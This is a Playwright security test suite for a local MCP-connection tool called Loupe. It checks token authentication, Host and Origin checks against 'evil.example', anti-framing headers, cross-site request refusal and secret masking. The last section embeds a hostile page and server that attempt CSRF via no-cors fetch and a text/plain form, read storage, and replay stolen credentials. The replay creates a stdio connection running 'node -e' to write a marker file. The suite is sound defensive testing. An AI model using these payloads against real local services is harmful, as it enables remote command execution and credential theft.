import { createServer, request as httpRequest, type IncomingHttpHeaders, type Server } from "node:http";
import { existsSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { E2E_TOKEN, expect, test } from "./fixtures";

/** Raw HTTP, because browsers and fetch() do not let a caller forge the Host header. */
function get(path: string, headers: Record<string, string>): Promise<{ status: number; body: string; headers: Record<string, unknown> }> {
  const url = new URL(test.info().project.use.baseURL!);
  return new Promise((resolve, reject) => {
    const req = httpRequest({ host: "127.0.0.1", port: Number(url.port), path, headers }, (res) => {
      let body = "";
      res.on("data", (c) => (body += c));
      res.on("end", () => resolve({ status: res.statusCode ?? 0, body, headers: res.headers }));
    });
    req.on("error", reject);
    req.end();
  });
}

function send(method: string, path: string, headers: Record<string, string>, body?: string): Promise<{ status: number; body: string }> {
  const url = new URL(test.info().project.use.baseURL!);
  return new Promise((resolve, reject) => {
    const req = httpRequest({ host: "127.0.0.1", port: Number(url.port), path, method, headers }, (res) => {
      let text = "";
      res.on("data", (c) => (text += c));
      res.on("end", () => resolve({ status: res.statusCode ?? 0, body: text }));
    });
    req.on("error", reject);
    req.end(body);
  });
}

test("no token → 401, wrong token → 401, right token → 200; the page shell needs none", async () => {
  const host = new URL(test.info().project.use.baseURL!).host;
  expect((await get("/api/connections", { host })).status).toBe(401);
  expect((await get("/api/connections", { host, "x-loupe-token": "wrong" })).status).toBe(401);
  const ok = await get("/api/connections", { host, "x-loupe-token": E2E_TOKEN });
  expect(ok.status).toBe(200);
  expect(Array.isArray(JSON.parse(ok.body))).toBe(true);
  // The shell is client-rendered and carries no data: everything comes from /api with the header.
  const shell = await get("/", { host });
  expect(shell.status).toBe(200);
  expect(shell.body).not.toContain("Loupe demo MCP server");
  expect((await get("/?token=wrong", { host })).status).toBe(401);
  // A cookie is never a credential any more, not even one named like the old one.
  expect(
    (await get("/api/connections", { host, cookie: `loupe_token_${new URL(test.info().project.use.baseURL!).port}=${E2E_TOKEN}` })).status,
  ).toBe(401);
});

test("a foreign Host or Origin → 403, even with the token", async () => {
  const host = new URL(test.info().project.use.baseURL!).host;
  expect((await get("/api/connections", { host: "evil.example", "x-loupe-token": E2E_TOKEN })).status).toBe(403);
  expect((await get("/", { host: "evil.example" })).status).toBe(403);
  const origin = await get("/api/connections", { host, origin: "http://evil.example", "x-loupe-token": E2E_TOKEN });
  expect(origin.status).toBe(403);
});

test("the one-time URL keeps the token in the page's own storage, not in a cookie, and drops it from the address bar", async ({
  workbench,
  page,
  context,
}) => {
  await workbench.open("view=inbox");
  await expect(page).not.toHaveURL(/token=/);
  await expect(page).toHaveURL(/view=inbox/);
  expect(await page.evaluate(() => window.localStorage.getItem("loupe.token"))).toBe(E2E_TOKEN);
  expect((await context.cookies()).filter((c) => c.value.includes(E2E_TOKEN))).toEqual([]);
  // A reload and a new tab of Loupe keep working (localStorage is shared by the origin's tabs).
  await page.reload();
  await expect(page.getByTestId("live-indicator")).toHaveAttribute("data-state", "live");
  const tab = await context.newPage();
  await tab.goto("/");
  await expect(tab.getByTestId("live-indicator")).toHaveAttribute("data-state", "live");
  await expect(tab.locator('[data-testid="connection-item"]').first()).toBeVisible();
  await tab.close();
});

test("without a token, or with one of an earlier launch, the page says to open the printed address", async ({ page }) => {
  await page.goto("/");
  await expect(page.getByTestId("token-gate")).toHaveAttribute("data-state", "missing");
  await expect(page.getByTestId("token-gate")).toContainText("Open the address Loupe printed");
  await page.evaluate(() => window.localStorage.setItem("loupe.token", "token-of-an-earlier-launch"));
  await page.reload();
  await expect(page.getByTestId("token-gate")).toHaveAttribute("data-state", "wrong");
  await expect(page.getByTestId("connection-item")).toHaveCount(0);
});

test("the token cookie of an earlier version is expired, and is no credential", async ({ workbench, page, context }) => {
  const port = new URL(test.info().project.use.baseURL!).port;
  await context.addCookies([
    { name: `loupe_token_${port}`, value: E2E_TOKEN, domain: "127.0.0.1", path: "/", httpOnly: true, sameSite: "Strict" },
  ]);
  const response = await page.goto("/");
  expect(await response!.headerValue("set-cookie")).toContain(`loupe_token_${port}=; Path=/; Max-Age=0`);
  expect((await context.cookies()).filter((c) => c.name.startsWith("loupe_token_"))).toEqual([]);
  await workbench.open();
});

test("every response forbids framing: pages, assets, API answers and refusals", async () => {
  const host = new URL(test.info().project.use.baseURL!).host;
  for (const [path, headers] of [
    ["/", { host }],
    ["/api/connections", { host, "x-loupe-token": E2E_TOKEN }],
    ["/api/connections", { host }],
    ["/", { host: "evil.example" }],
    [/\/_next\/static\/[^"]+\.js/.exec((await get("/", { host })).body)![0], { host }],
  ] as const) {
    const res = await get(path, headers);
    expect(res.headers["content-security-policy"], path).toBe("frame-ancestors 'none'");
    expect(res.headers["x-frame-options"], path).toBe("DENY");
  }
});

test("state-changing requests from another site or another local port are refused even with the token", async () => {
  const url = new URL(test.info().project.use.baseURL!);
  const body = JSON.stringify({ name: "from-elsewhere", transport: "http", url: "http://127.0.0.1:9/mcp" });
  for (const site of ["same-site", "cross-site"]) {
    const res = await send(
      "POST",
      "/api/connections",
      { host: url.host, "x-loupe-token": E2E_TOKEN, "sec-fetch-site": site, "content-type": "application/json" },
      body,
    );
    expect(res.status, site).toBe(403);
    expect(JSON.parse(res.body).error.code).toBe("forbidden:origin");
  }
  const list = await get("/api/connections", { host: url.host, "x-loupe-token": E2E_TOKEN });
  expect(list.body).not.toContain("from-elsewhere");
  // Loupe's own page (same-origin) and scripts (no Sec-Fetch-Site) are fine.
  const own = await send(
    "POST",
    "/api/connections",
    { host: url.host, "x-loupe-token": E2E_TOKEN, "sec-fetch-site": "same-origin", "content-type": "application/json" },
    body,
  );
  expect(own.status).toBe(201);
  const id = (JSON.parse(own.body) as { id: string }).id;
  expect(
    (await send("DELETE", `/api/connections/${id}`, { host: url.host, "x-loupe-token": E2E_TOKEN, "sec-fetch-site": "same-site" })).status,
  ).toBe(403);
  expect((await send("DELETE", `/api/connections/${id}`, { host: url.host, "x-loupe-token": E2E_TOKEN })).status).toBeLessThan(300);
});

test("secrets never come back from the API", async () => {
  const host = new URL(test.info().project.use.baseURL!).host;
  const headers = { host, "x-loupe-token": E2E_TOKEN, "content-type": "application/json" };
  const created = await new Promise<{ status: number; body: string }>((resolve, reject) => {
    const req = httpRequest(
      { host: "127.0.0.1", port: Number(host.split(":")[1]), path: "/api/connections", method: "POST", headers },
      (res) => {
        let body = "";
        res.on("data", (c) => (body += c));
        res.on("end", () => resolve({ status: res.statusCode ?? 0, body }));
      },
    );
    req.on("error", reject);
    req.end(
      JSON.stringify({
        name: "secretive",
        transport: "http",
        url: "http://127.0.0.1:9/mcp",
        headers: { Authorization: "Bearer sk-very-secret" },
      }),
    );
  });
  expect(created.status).toBe(201);
  expect(created.body).not.toContain("sk-very-secret");
  const list = await get("/api/connections", { host, "x-loupe-token": E2E_TOKEN });
  expect(list.body).not.toContain("sk-very-secret");
  expect(list.body).toContain("••••••");
});

/**
 * Another local web server the user happens to open (a dev server, an OAuth authorization page):
 * it records every request it gets and, like a real attacker, replays anything that looks like a
 * credential against Loupe from Node (no browser rules there) to create a stdio connection. Its
 * page tries to read Loupe's API, post to it (fetch no-cors and a form) and frame it.
 */
test.describe("a web page on another 127.0.0.1 port", () => {
  const HOSTILE_PORT = 7310;
  const seen: { method: string; url: string; headers: IncomingHttpHeaders }[] = [];
  const replays: { value: string; status: number }[] = [];
  let report: Record<string, string> | null = null;
  let hostile: Server;
  let markerDir = "";
  let marker = "";

  const stdioBody = (name: string) =>
    JSON.stringify({
      name,
      transport: "stdio",
      command: "node",
      args: ["-e", `require("fs").writeFileSync(${JSON.stringify(marker)}, "pwned")`],
    });

  /** What a thief does with a stolen value: POST /api/connections from Node, as `curl` would. */
  function replay(value: string, loupe: URL): Promise<void> {
    return new Promise((resolve) => {
      const req = httpRequest(
        {
          host: "127.0.0.1",
          port: Number(loupe.port),
          path: "/api/connections",
          method: "POST",
          headers: { host: loupe.host, "x-loupe-token": value, "content-type": "application/json" },
        },
        (res) => {
          res.resume();
          res.on("end", () => {
            replays.push({ value, status: res.statusCode ?? 0 });
            resolve();
          });
        },
      );
      req.on("error", () => resolve());
      req.end(stdioBody("pwned-by-stolen-credential"));
    });
  }

  function page(loupe: string): string {
    return `<!doctype html><meta charset="utf-8"><title>another local app</title>
<iframe id="loupe" src="${loupe}/" width="600" height="300"></iframe>
<iframe name="sink" id="sink" width="10" height="10"></iframe>
<form id="f" method="POST" action="${loupe}/api/connections" enctype="text/plain" target="sink">
<input type="hidden" name='{"name":"pwned-by-form","transport":"stdio","command":"node","args":[],"x":"' value='"}'></form>
<script>
const L = ${JSON.stringify(loupe)};
const out = {};
const attempt = async (name, fn) => { try { out[name] = String(await fn()); } catch (e) { out[name] = "error: " + e.message; } };
(async () => {
  await attempt("read", async () => { const r = await fetch(L + "/api/connections", { credentials: "include" }); return r.status + " " + (await r.text()); });
  await attempt("readNoCors", async () => { const r = await fetch(L + "/api/connections", { mode: "no-cors", credentials: "include" }); return r.type + " " + (await r.text()); });
  await attempt("postNoCors", async () => {
    const r = await fetch(L + "/api/connections", { method: "POST", mode: "no-cors", credentials: "include", headers: { "content-type": "text/plain" }, body: ${JSON.stringify(stdioBody("pwned-by-fetch"))} });
    return r.type;
  });
  await attempt("storage", () => JSON.stringify(Object.assign({}, localStorage)) + JSON.stringify(Object.assign({}, sessionStorage)) + document.cookie);
  document.getElementById("f").submit();
  await new Promise((r) => setTimeout(r, 1500));
  await attempt("frameContent", () => document.getElementById("loupe").contentDocument?.body?.innerHTML ?? "no access");
  await fetch("/report", { method: "POST", body: JSON.stringify(out) });
})();
</script>`;
  }

  test.beforeAll(async () => {
    markerDir = mkdtempSync(path.join(tmpdir(), "loupe-pwned-"));
    marker = path.join(markerDir, "marker");
    const loupe = new URL(test.info().project.use.baseURL!);
    hostile = createServer((req, res) => {
      seen.push({ method: req.method ?? "", url: req.url ?? "", headers: req.headers });
      // Anything credential-shaped is replayed: every cookie value, any x-loupe-token header.
      const values = (req.headers.cookie ?? "")
        .split(";")
        .map((c) => decodeURIComponent(c.slice(c.indexOf("=") + 1).trim()))
        .filter(Boolean);
      const header = req.headers["x-loupe-token"];
      if (typeof header === "string") values.push(header);
      void Promise.all(values.map((v) => replay(v, loupe)));
      let body = "";
      req.on("data", (c) => (body += c));
      req.on("end", () => {
        if (req.url === "/report") {
          report = JSON.parse(body) as Record<string, string>;
          res.end("ok");
        } else {
          res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
          res.end(page(loupe.origin));
        }
      });
    });
    await new Promise<void>((resolve) => hostile.listen(HOSTILE_PORT, "127.0.0.1", resolve));
  });

  test.afterAll(async () => {
    await new Promise((resolve) => hostile?.close(resolve));
    if (markerDir) rmSync(markerDir, { recursive: true, force: true });
  });

  test("opened after Loupe's login, it receives no credential of Loupe's and cannot create, read or frame anything", async ({
    workbench,
    page,
    context,
  }) => {
    await workbench.open();
    const host = new URL(test.info().project.use.baseURL!).host;
    const before = JSON.parse((await get("/api/connections", { host, "x-loupe-token": E2E_TOKEN })).body) as { name: string }[];

    const other = await context.newPage();
    const framed = other.waitForResponse((r) => r.url() === `http://${host}/`);
    await other.goto(`http://127.0.0.1:${HOSTILE_PORT}/page`);
    const frameResponse = await framed;
    await expect.poll(() => report, { timeout: 20_000 }).not.toBeNull();
    await new Promise((r) => setTimeout(r, 500)); // let any replay of a stolen value finish

    // (1) Nothing of Loupe's reached this server: no cookie, no header, no token anywhere.
    expect(seen.length).toBeGreaterThan(0);
    expect(JSON.stringify(seen)).not.toContain(E2E_TOKEN);
    expect(seen.filter((r) => /loupe_token_/.test(r.headers.cookie ?? ""))).toEqual([]);
    expect(replays.filter((r) => r.status < 400)).toEqual([]);

    // (2) Its page read nothing: the API answered no data to it, its storage holds no token.
    const got = report!;
    expect(got.read).toMatch(/^error/); // CORS: no readable answer
    expect(got.readNoCors).not.toContain("Loupe demo MCP server");
    expect(got.storage).not.toContain(E2E_TOKEN);
    expect(got.frameContent).not.toContain("live-indicator");

    // (3) Its posts created nothing and ran nothing.
    const after = JSON.parse((await get("/api/connections", { host, "x-loupe-token": E2E_TOKEN })).body) as { name: string }[];
    expect(after.map((c) => c.name).filter((n) => n.startsWith("pwned"))).toEqual([]);
    expect(after).toHaveLength(before.length);
    expect(existsSync(marker)).toBe(false);

    // (4) The frame was refused: Loupe said so, and the browser showed no Loupe inside it.
    expect(frameResponse.headers()["content-security-policy"]).toBe("frame-ancestors 'none'");
    expect(frameResponse.headers()["x-frame-options"]).toBe("DENY");
    const frame = other.frames().find((f) => f !== other.mainFrame() && f.name() !== "sink")!;
    expect(frame.url()).not.toContain(host);
    await expect(other.frameLocator("#loupe").getByTestId("live-indicator")).toHaveCount(0);

    // Loupe's own tab is still logged in and live.
    await expect(page.getByTestId("live-indicator")).toHaveAttribute("data-state", "live");
    await other.close();
  });
});
